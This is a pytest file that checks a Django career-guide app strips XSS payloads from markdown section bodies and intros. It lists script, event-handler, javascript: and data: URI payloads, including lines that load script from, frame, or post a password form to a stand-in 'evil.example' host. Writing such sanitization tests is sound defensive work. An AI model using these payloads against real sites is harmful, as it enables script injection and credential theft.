from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.urls import reverse
from pytest_django.asserts import assertContains

from tests.factories import GuideSectionFactory

pytestmark = pytest.mark.django_db

ATTACKS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    "<svg onload=alert(1)><circle r=10 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<p style="position:fixed;inset:0;background:red">cover</p>',
    "<iframe src=https://evil.example></iframe>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<div onmouseover="alert(1)">hover</div>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=password></form>',
]

SAFE_TAGS = {"h3", "h4", "h5", "h6", "p", "br", "hr", "blockquote", "ul", "ol", "li", "a", "em", "strong", "code",
             "pre", "table", "thead", "tbody", "tr", "th", "td", "div", "section", "h2", "span", "time"}  # fmt: skip


class ActiveContentFinder(HTMLParser):
    """Collects anything in parsed HTML that could run code, load content or restyle the page."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag not in SAFE_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "src", "srcdoc", "action", "formaction", "xlink:href"}:
                self.found.append(f"{tag} {name}=")
            if name == "href" and urlsplit((value or "").strip()).scheme.lower() not in {"", "http", "https", "mailto"}:
                self.found.append(f"{tag} href={value}")


def active_content(html: str) -> list[str]:
    finder = ActiveContentFinder()
    finder.feed(html)
    return finder.found


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_strings_in_a_section_body_never_reach_the_page(client, career, attack):
    GuideSectionFactory(career=career, heading="Tricky section", body=f"Safe **bold** text.\n\n{attack}\n")

    response = client.get(reverse("guides:career_detail", kwargs={"slug": career.slug}))

    assertContains(response, "Safe <strong>bold</strong> text.")  # positive control: the section rendered
    section = response.content.decode().split('<section id="tricky-section"', 1)[1].split("</section>", 1)[0]
    assert active_content(f"<section{section}</section>") == []


def test_the_checker_spots_active_content():
    # The test above is only as good as its checker: it must see what an unsanitized body would contain.
    assert active_content(ATTACKS[2]) == ["<img>", "img src=", "img onerror="]
    assert active_content(ATTACKS[4]) == ["a href=javascript:alert(1)"]


def test_attack_strings_in_the_intro_never_reach_the_page(client, career):
    career.intro = "Welcome. <img src=x onerror=alert(1)> [x](javascript:alert(1))"
    career.save()

    response = client.get(reverse("guides:career_detail", kwargs={"slug": career.slug}))

    assertContains(response, "Welcome.")
    intro = response.content.decode().split('<div class="prose">', 1)[1].split("</div>", 1)[0]
    assert active_content(intro) == []


def test_safe_markdown_keeps_links_lists_and_tables(client, career):
    body = "- one\n- two\n\n[Docs](https://docs.python.org/3/)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    GuideSectionFactory(career=career, heading="Plain section", body=body)

    response = client.get(reverse("guides:career_detail", kwargs={"slug": career.slug}))

    assertContains(response, "<li>one</li>")
    assertContains(response, '<a href="https://docs.python.org/3/" rel="noopener noreferrer">Docs</a>')
    assertContains(response, "<td>2</td>")
